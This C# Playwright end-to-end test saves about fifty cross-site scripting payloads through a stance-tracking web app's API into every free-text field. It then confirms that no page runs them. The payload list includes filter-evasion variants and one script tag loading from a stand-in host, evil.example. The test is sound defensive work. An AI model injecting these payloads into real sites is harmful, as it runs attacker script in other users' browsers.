using System.Text.Json;
using AllianceTracker.EndToEnd.Infrastructure;
using AllianceTracker.Web.Features.Accounts;
using Microsoft.Playwright;

namespace AllianceTracker.EndToEnd.Security;

/// <summary>
/// Fifty script payloads saved through the API into every free-text field an editor writes (stance
/// reason, conditions and excerpt; source title and outlet; proposal title, description and
/// proposer; snapshot title and note; decision note), then every page that shows them opened in
/// Chromium: no payload runs. Each would call alert(); a dialog is an execution.
/// </summary>
public sealed class StoredScriptTests : FreshBrowserAppTest
{
    public static readonly string[] Payloads =
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "<body onload=alert(1)>", "<iframe src=\"javascript:alert(1)\"></iframe>", "<a href=\"javascript:alert(1)\">x</a>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
        "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<object data=\"javascript:alert(1)\">", "<embed src=\"javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>", "<isindex action=javascript:alert(1) type=submit>", "<img src=\"x\" onerror=\"&#97;lert(1)\">",
        "<img src=x onerror=\\u0061lert(1)>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=`x`onerror=alert(1)>",
        "<div style=\"background:url(javascript:alert(1))\">", "<style>@import 'javascript:alert(1)';</style>", "<link rel=stylesheet href=javascript:alert(1)>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<base href=\"javascript:alert(1)//\">", "<table background=\"javascript:alert(1)\">",
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<x onclick=alert(1)>click</x>",
        "<a onmouseover=alert(1)>hover</a>", "<p onpointerenter=alert(1)>p</p>", "<img srcset=x onerror=alert(1)>", "<image src=x onerror=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><img src=x onerror=alert(1)></template>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<frameset onload=alert(1)>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<style><img src=\"</style><img src=x onerror=alert(1)//\">", "]]><script>alert(1)</script>",
    ];

    [Fact]
    public async Task No_stored_payload_runs_on_any_page()
    {
        Assert.True(Payloads.Length >= 50);
        var editorPage = await App.SignedInPageAsync(Roles.Editor);
        var api = editorPage.APIRequest;
        var headers = new Dictionary<string, string> { ["X-Requested-With"] = "XMLHttpRequest" };
        var members = new[] { "ALB", "BEL", "BGR", "CAN", "HRV", "CZE", "DNK", "EST", "FIN", "FRA", "DEU", "GRC", "ISL", "ITA", "LVA", "LTU", "LUX" };
        var snapshotIds = new List<string>();
        for (var i = 0; i < Payloads.Length; i++)
        {
            var payload = Payloads[i];
            var member = members[i % members.Length];
            var proposal = new[] { "ukraine-fund", "ramstein-coordination", "membership-invitation" }[i % 3];
            var cell = JsonDocument.Parse(await (await api.GetAsync($"/api/v1/stances/cell?member={member}&proposal={proposal}")).TextAsync()).RootElement;
            var saved = await api.PostAsync("/api/v1/stances", new()
            {
                Headers = headers,
                DataObject = new
                {
                    member, proposal, stance = "conditional", conditions = payload, effectiveDate = "2024-06-02", reason = payload,
                    evidence = new[] { new { excerpt = payload, newSource = new { title = payload, outlet = payload, kind = "news-report", publishedOn = "2024-06-01" } } },
                    expectedVersion = cell.GetProperty("version").ValueKind == JsonValueKind.Null ? (Guid?)null : cell.GetProperty("version").GetGuid(),
                },
            });
            Assert.True(saved.Status == 201, $"stance {i}: {saved.Status} {await saved.TextAsync()}");

            var created = await api.PostAsync("/api/v1/proposals", new()
            {
                Headers = headers,
                DataObject = new { slug = $"payload-{i}", summitSlug = "washington-2024", title = payload, description = payload, proposer = payload, tabledOn = "2024-06-01" },
            });
            Assert.True(created.Status == 201, $"proposal {i}: {created.Status} {await created.TextAsync()}");

            if (i % 5 == 0)
            {
                var snapshot = await api.PostAsync("/api/v1/snapshots", new() { Headers = headers, DataObject = new { title = payload, note = payload } });
                Assert.True(snapshot.Status == 201, $"snapshot {i}: {snapshot.Status} {await snapshot.TextAsync()}");
                snapshotIds.Add(JsonDocument.Parse(await snapshot.TextAsync()).RootElement.GetProperty("id").GetString()!);
            }
        }

        var decided = await api.PostAsync("/api/v1/proposals/payload-0/outcomes", new()
        {
            Headers = headers,
            DataObject = new { outcome = "dropped", decidedOn = "2024-07-10", note = Payloads[1], evidence = new[] { new { excerpt = Payloads[2], newSource = new { title = Payloads[3], outlet = Payloads[4], kind = "declaration", publishedOn = "2024-07-10" } } } },
        });
        Assert.True(decided.Status == 201, $"decision: {decided.Status} {await decided.TextAsync()}");

        var executions = 0;
        var reader = await App.NewPageAsync();
        foreach (var page in new[] { reader, editorPage })
        {
            page.Dialog += async (_, dialog) =>
            {
                Interlocked.Increment(ref executions);
                await dialog.DismissAsync();
            };
        }

        var addresses = new List<string> { "/", "/proposals", "/proposals/payload-0", "/proposals/payload-7", "/sources", "/snapshots", $"/snapshots/{snapshotIds[0]}", "/compare?from=2024-01-01&to=today" };
        addresses.AddRange(members.Select(m => $"/members/{m}"));
        foreach (var address in addresses)
        {
            await reader.GotoAsync(address);
            await reader.WaitForLoadStateAsync(LoadState.NetworkIdle);
        }

        foreach (var address in new[] { "/audit", "/proposals/payload-0/edit", "/members/ALB" })
        {
            await editorPage.GotoAsync(address);
            await editorPage.WaitForLoadStateAsync(LoadState.NetworkIdle);
        }

        // They were shown, as text.
        await reader.GotoAsync("/sources");
        Assert.Contains("<img src=x onerror=alert(1)>", await reader.Locator("main, [role=main]").First.InnerTextAsync());
        Assert.Equal(0, executions);

        // The watch itself works: an alert that does run is counted.
        await reader.EvaluateAsync("() => alert('probe')");
        Assert.Equal(1, executions);
        await reader.Context.CloseAsync();
        await editorPage.Context.CloseAsync();
    }
}
